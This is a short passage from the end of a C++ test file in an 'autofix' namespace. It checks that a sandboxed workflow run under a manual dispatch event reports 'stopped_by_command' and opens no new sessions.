    RunOptions dispatched;
    dispatched.env["GITHUB_EVENT_NAME"] = "workflow_dispatch";
    const WorkflowRun next = sandbox.run_workflow(fix_branch, dispatched);
    EXPECT_EQ(next.output("action-taken"), "stopped_by_command") << describe_runs({next});
    EXPECT_EQ(session_openings(sandbox).size(), sessions);
}

} // namespace
} // namespace autofix
